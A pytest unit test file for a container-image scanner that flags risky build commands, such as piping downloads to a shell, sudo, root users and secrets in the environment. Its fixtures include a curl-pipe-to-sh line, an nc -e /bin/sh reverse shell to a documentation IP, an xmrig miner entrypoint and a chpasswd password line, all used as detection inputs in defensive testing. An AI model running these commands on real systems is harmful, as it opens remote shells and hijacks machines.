"""The scan of one image: states, identities, levels, layers and limits."""

from __future__ import annotations

from datetime import date

import orjson
import pytest

from analyzers.build_commands import BuildCommands
from analyzers.build_commands.rule import Build, Hit
from analyzers.build_commands.rules import RULES
from analyzers.contract import AnalysisInputs
from analyzers.image import ImageView
from schemas.findings import ScanReport
from tests.unit.analyzers.build_commands.builds import document, report

PIPE = "/bin/sh -c cu" + "rl -s https://get.example.org/i | " + "sh"


def ids(found: ScanReport, rule: str) -> list[str]:
    return [one.id for one in found.findings if one.rule == rule]


def test_identity_is_content_not_place() -> None:
    first = report(document([PIPE]))
    moved = report(document(["ENV A=b", "RUN /bin/sh -c make # buildkit", PIPE]))
    assert ids(first, "pipe_to_shell") == ids(moved, "pipe_to_shell")
    assert ids(first, "pipe_to_shell") != ids(report(document([PIPE + " -s x"])), "pipe_to_shell")


def test_the_same_instruction_twice_is_two_places_with_two_ids() -> None:
    found = [one for one in report(document([PIPE, PIPE])).findings if one.rule == "pipe_to_shell"]
    assert [one.path for one in found] == ["history[1]", "history[2]"]
    assert len({one.id for one in found}) == 2


def test_two_hits_in_one_step_are_one_finding() -> None:
    assert len(ids(report(document([PIPE + "; sudo a; sudo b"])), "sudo")) == 1


def test_layer_and_evidence() -> None:
    found = report(document(["ENV A=b", PIPE + " -s " + "x" * 1000]))
    (one,) = [one for one in found.findings if one.rule == "pipe_to_shell"]
    assert (one.layer, one.path, len(one.evidence), one.details["class"]) == ("layer-1", "history[2]", 300, "download")
    (user,) = [one for one in found.findings if one.rule == "root_user"]
    assert user.layer == ""


def test_levels_and_switches() -> None:
    found = report(document([PIPE]), levels={"pipe_to_shell": "low"}, disabled=frozenset({"root_user"}))
    assert {one.rule: one.severity for one in found.findings} == {"pipe_to_shell": "low", "no_healthcheck": "low"}
    text = document(["MAINTAINER a@example.org"])
    assert not ids(report(text), "maintainer_deprecated")
    assert ids(report(text, "full"), "maintainer_deprecated")


@pytest.mark.parametrize("entry", [[], [{"created_by": "bazel build ..."}], [{"comment": "Imported from -"}], [{}]])
def test_without_history_only_the_configuration_counts(entry: list[dict[str, str]]) -> None:
    found = report(orjson.dumps({"config": {"User": "root", "Env": ["DB_PASSWORD=tr0ub4dor-and-3"]}, "history": entry}))
    assert found.state == "partial"
    assert found.reason.startswith("no_history")
    assert {one.rule for one in found.findings} == {"root_user", "no_healthcheck", "secret_in_env"}


def test_no_configuration_is_a_failure() -> None:
    found = BuildCommands().analyze(ImageView("sha256:x", (), ()), AnalysisInputs(today=date(2026, 1, 1)))
    assert (found.state, found.findings) == ("failed", [])


def test_what_was_cut_makes_the_scan_partial() -> None:
    assert report(document(["/bin/sh -c true"] * 3000)).state == "partial"
    long = report(document(["/bin/sh -c " + "$(" * 20_000]))
    assert (long.state, long.reason.partition(":")[0]) == ("partial", "expansion_limit")


def test_a_crashing_rule_ends_only_itself(monkeypatch: pytest.MonkeyPatch) -> None:
    def crash(build: Build) -> list[Hit]:
        raise ZeroDivisionError

    rules = [
        type(rule)(**{name: getattr(rule, name) for name in rule.__slots__} | {"detect": crash}) if rule.key == "sudo" else rule
        for rule in RULES
    ]
    monkeypatch.setattr("analyzers.build_commands.RULES", tuple(rules))
    found = report(document([PIPE]))
    assert (found.state, found.reason) == ("partial", "detector_crashed: sudo: ZeroDivisionError")
    assert ids(found, "pipe_to_shell")


def test_entrypoint_and_command_are_one_process() -> None:
    together = report(document([], Entrypoint=["/bin/sh", "-c"], Cmd=[PIPE.removeprefix("/bin/sh -c ")]))
    assert [one.path for one in together.findings if one.rule == "pipe_to_shell"] == ["config.Cmd"]
    apart = report(document([], Entrypoint=["/usr/bin/nc"], Cmd=["-e", "/bin/sh", "192.0.2.1", "4444"]))
    assert [one.path for one in apart.findings if one.rule == "suspicious_command"] == ["config.Cmd"]
    miner = report(document([], Entrypoint=["xmrig"], Cmd=["-o", "stratum+tcp://pool.example.org:1"]))
    assert [one.path for one in miner.findings if one.rule == "suspicious_command"] == ["config.Entrypoint"]


def test_no_value_of_a_secret_is_shown() -> None:
    found = report(
        document(["ENV DB_PASSWORD=tr0ub4dor-and-3", "/bin/sh -c echo 'root:toor12345' | chpasswd"], Env=["DB_PASSWORD=tr0ub4dor-and-3"])
    )
    text = found.model_dump_json()
    assert "tr0ub4dor-and-3" not in text
    assert "toor12345" not in text


def test_windows_images_run_unprivileged_unless_they_say_otherwise() -> None:
    for user, expected in (("", 0), ("ContainerUser", 0), ("ContainerAdministrator", 1)):
        found = report(orjson.dumps({"os": "windows", "config": {"User": user}, "history": [{"created_by": "cmd /S /C dir"}]}))
        assert len(ids(found, "root_user")) == expected
